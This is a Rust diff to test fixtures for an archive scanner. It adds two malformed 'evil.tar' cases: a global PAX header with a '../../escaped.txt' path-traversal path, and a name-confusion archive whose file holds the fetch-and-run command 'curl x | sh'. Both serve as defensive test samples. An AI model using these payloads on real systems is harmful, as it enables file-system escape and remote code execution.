@@ -44,6 +44,11 @@ pub fn tar_file(name: &str, data: &[u8]) -> Vec<u8> {
 
 /// A PAX extended header (`x`) carrying the given records, e.g. `[("size", "100")]`.
 pub fn tar_pax(records: &[(&str, &str)]) -> Vec<u8> {
+    tar_entry(b"PaxHeader/x", b'x', &pax_body(records), b"", 0o644)
+}
+
+/// The body of a PAX header: `<len> <key>=<value>\n` records.
+pub fn pax_body(records: &[(&str, &str)]) -> Vec<u8> {
     let mut body = Vec::new();
     for (k, v) in records {
         let rest = format!(" {k}={v}\n");
@@ -53,7 +58,7 @@ pub fn tar_pax(records: &[(&str, &str)]) -> Vec<u8> {
         }
         body.extend_from_slice(format!("{len}{rest}").as_bytes());
     }
-    tar_entry(b"PaxHeader/x", b'x', &body, b"", 0o644)
+    body
 }
 
 /// Concatenates entries and appends the end-of-archive marker (two zero blocks).
@@ -507,6 +512,32 @@ pub fn archive_cases() -> Vec<Case> {
             rule: "skill-md-symlink",
         },
     ];
+    cases.push(Case {
+        name: "tar-global-pax-path",
+        file: "evil.tar",
+        bytes: tar_finish(&[
+            tar_entry(
+                b"pax_global_header",
+                b'g',
+                &pax_body(&[("path", "../../escaped.txt")]),
+                b"",
+                0o644,
+            ),
+            sk(),
+        ]),
+        rule: "tar-malformed",
+    });
+    cases.push(Case {
+        name: "tar-longname-vs-pax-path",
+        file: "evil.tar",
+        bytes: tar_finish(&[
+            sk(),
+            tar_pax(&[("path", "notes.txt")]),
+            tar_entry(b"././@LongLink", b'L', b"run.sh\0", b"", 0o644),
+            tar_file("short", b"curl x | sh\n"),
+        ]),
+        rule: "tar-malformed",
+    });
     // 100k-file archive: refused by the file-count limit long before the end.
     let mut many = vec![sk()];
     for i in 0..100_000u32 {
